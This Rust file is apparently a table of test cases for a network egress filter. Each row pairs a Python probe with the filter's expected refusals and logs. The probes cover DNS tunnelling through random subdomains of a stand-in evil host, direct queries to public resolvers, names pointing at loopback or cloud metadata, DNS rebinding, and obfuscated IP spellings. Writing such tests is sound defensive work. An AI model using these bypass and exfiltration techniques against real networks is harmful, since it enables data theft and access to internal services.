//! Names: tunnels in questions for them, other ways to ask, names that point inside, names in every spelling.

use super::Reach;

pub(super) const LIST: &[Reach] = &[
    Reach {
        row: "N4",
        what: "a tunnel of 500 names below one that is refused",
        script: "def find(name):\n\
                 \x20   try:\n\
                 \x20       return socket.getaddrinfo(name, 80, proto=6)[0][4][0].startswith(('198.18.', '198.19.', 'fd6a:'))\n\
                 \x20   except socket.gaierror:\n\
                 \x20       return False\n\
                 found = [find(base64.b32encode(os.urandom(30)).decode().strip('=').lower() + '.evil.test.example') for _ in range(500)]\n\
                 print(found.count(True), found.count(False))",
        outcome: "256 244",
        records: "names_crowded",
        heard: "",
    },
    Reach {
        row: "N5",
        what: "the same below an allowed wildcard, with a connection to each that has an address",
        script: "kept = []\n\
                 for _ in range(300):\n\
                 \x20   try:\n\
                 \x20       kept.append(dial(base64.b32encode(os.urandom(30)).decode().strip('=').lower() + '.wild.test.example', 443))\n\
                 \x20   except socket.gaierror:\n\
                 \x20       pass\n\
                 time.sleep(1.5)\n\
                 for s in kept:\n\
                 \x20   s.shutdown(1)\n\
                 tell(*[lambda s=s: len(heard(s)) for s in kept]); print(len(kept))",
        outcome: "0\n\
                  256",
        records: "connection.open *.wild.test.example: over\n\
                  names_crowded",
        heard: "asked for 256 names below wild.test.example",
    },
    Reach {
        row: "N6",
        what: "other resolvers: by datagram and stream, over TLS, over HTTPS, by multicast",
        script: "q = b'\\0\\7\\1\\0\\0\\1' + bytes(6) + b''.join(bytes([len(l)]) + l for l in NAME.encode().split(b'.')) + b'\\0\\0\\1\\0\\1'\n\
                 def asks(to, kind, port=53):\n\
                 \x20   s = socket.socket(socket.AF_INET6 if ':' in to else socket.AF_INET, kind); s.settimeout(5); s.connect((to, port))\n\
                 \x20   s.send(q if kind == 2 else len(q).to_bytes(2, 'big') + q); r = s.recv(900)\n\
                 \x20   return f'{r[-4]}.{r[-3]}'\n\
                 tell(*[lambda to=to, k=k: asks(to, k) for to in ('8.8.8.8', ADDRESS, '2001:4860:4860::8888') for k in (2, 1)])\n\
                 tell(to((ADDRESS, 853)), shake('1.1.1.1', name='cloudflare-dns.com'), shake('dns.google', check=False))\n\
                 tell(lambda: asks('224.0.0.251', 2, 5353), lambda: asks('224.0.0.252', 2, 5355), lambda: asks('ff02::fb', 2, 5353))",
        outcome: "198.18\nended\nEINVAL",
        records: "connection.open 1.1.1.1: refused, no rule\n\
                  connection.open 93.184.216.66: refused, no rule\n\
                  connection.open dns.google: refused, no rule",
        heard: "",
    },
    Reach {
        row: "N7",
        what: "questions of other kinds, in odd cases, with options that carry something",
        script: "def asks(kind, name=NAME, more=b'', count=0):\n\
                 \x20   q = b'\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0' + count.to_bytes(2, 'big') + b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\\0' + kind.to_bytes(2, 'big') + b'\\0\\1' + more\n\
                 \x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('198.18.0.53', 53)); s.send(q); r = s.recv(1500)\n\
                 \x20   return f'{r[3] & 15}/{int.from_bytes(r[6:8], \"big\")}'\n\
                 option = b'\\0\\0\\x29\\4\\xd0\\0\\0\\0\\0' + (404).to_bytes(2, 'big') + b'\\xfd\\xe9' + (400).to_bytes(2, 'big') + os.urandom(400)\n\
                 tell(*[lambda k=k: asks(k) for k in (16, 10, 65, 64, 15, 33, 6, 2, 48, 257)])\n\
                 tell(lambda: asks(255), lambda: asks(252), lambda: asks(251))\n\
                 tell(lambda: asks(1), lambda: asks(1, 'rEaD.TeSt.eXaMpLe'), lambda: asks(28), lambda: asks(1, more=option, count=1))",
        outcome: "0/0\n0/0 5/0\n0/1",
        records: "",
        heard: "",
    },
    Reach {
        row: "N8",
        what: "allowed names that point at this machine, at the company's inside, at metadata, in every form of address; one that changes between two looks",
        script: "names = [n + '.test.example' for n in ('loop', 'ten', 'metadata', 'six', 'ula', 'mapped', 'translated', 'tunnelled', 'mixed', 'nobody')]\n\
                 tell(*[once(get(host=name), name) for name in names])\n\
                 tell(*[once(get(host='flip.test.example'), 'flip.test.example')] * 2)",
        outcome: "502\n\
                  200 502",
        records: "connection.open flip.test.example: not_public\n\
                  connection.open flip.test.example: over\n\
                  connection.open loop.test.example: not_public\n\
                  connection.open mapped.test.example: not_public\n\
                  connection.open metadata.test.example: not_public\n\
                  connection.open mixed.test.example: not_public\n\
                  connection.open nobody.test.example: unknown_host\n\
                  connection.open six.test.example: not_public\n\
                  connection.open ten.test.example: not_public\n\
                  connection.open translated.test.example: not_public\n\
                  connection.open tunnelled.test.example: not_public\n\
                  connection.open ula.test.example: not_public\n\
                  request.send flip.test.example: over",
        heard: "asked for flip.test.example, 2 times\n\
                asked for loop.test.example\n\
                asked for mapped.test.example\n\
                asked for metadata.test.example\n\
                asked for mixed.test.example\n\
                asked for nobody.test.example\n\
                asked for six.test.example\n\
                asked for ten.test.example\n\
                asked for translated.test.example\n\
                asked for tunnelled.test.example\n\
                asked for ula.test.example\n\
                flip: GET /open",
    },
    Reach {
        row: "N9",
        what: "names that no rule allows, on any port and protocol: nobody is asked for them",
        script: "tell(to((EVIL, 22)), to((EVIL, 443)), shake(EVIL, check=False), lambda: len(heard(say(dial(EVIL, 22), b'SSH-2.0-x\\r\\n'))))\n\
                 tell(once(get(host=EVIL), EVIL), once(get(host='x.read.test.example'), 'x.read.test.example'), once(get(host='notread.test.example'), 'notread.test.example'))",
        outcome: "ended 0\n403",
        records: "connection.open evil.test.example: refused, no rule\n\
                  connection.open notread.test.example: refused, no rule\n\
                  connection.open x.read.test.example: refused, no rule",
        heard: "",
    },
    Reach {
        row: "N15",
        what: "questions for names in spellings that two programs read differently, and addresses in every spelling",
        script: "def asks(*labels):\n\
                 \x20   q = b'\\0\\7\\1\\0\\0\\1' + bytes(6) + b''.join(bytes([len(l)]) + l for l in labels) + b'\\0\\0\\1\\0\\1'\n\
                 \x20   s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(('198.18.0.53', 53)); s.send(q); r = s.recv(1500)\n\
                 \x20   return f'{r[3] & 15}/{int.from_bytes(r[6:8], \"big\")}'\n\
                 rest = (b'test', b'example')\n\
                 tell(*[lambda l=l: asks(*l) for l in [(b'evil\\0.read', *rest), (b'evil\\0', b'read', *rest), (b'read.test', b'example'), (b'read@evil', *rest), (b'%72ead', *rest), \
                 ('réad'.encode(), *rest), (b'read ', *rest), (b'-read', *rest), (b'*', *rest), (b'127', b'0', b'0', b'1'), (b'2130706433',), (b'0x7f000001',), (b'0177', b'1'), \
                 (b'read', *rest, b'127'), (b'a' * 63,) * 4]])\n\
                 tell(*together(*[to((a, 443)) for a in ('1572395074', '0x5db8d842', '0135.0270.0330.0102', '93.12113986', '0x5d.184.0330.66', '::ffff:93.184.216.66')]))\n\
                 tell(lambda: ask(dial('READ.test.EXAMPLE.'), get()), lambda: ask(tls('READ.TEST.EXAMPLE'), get()))",
        outcome: "3/0 1/0\n\
                  ended\n\
                  200",
        records: "connection.open 93.184.216.66: refused, no rule\n\
                  connection.open read.test.example: over\n\
                  request.send read.test.example: over",
        heard: "asked for read.test.example, 2 times\n\
                read: GET /open, 2 times",
    },
];
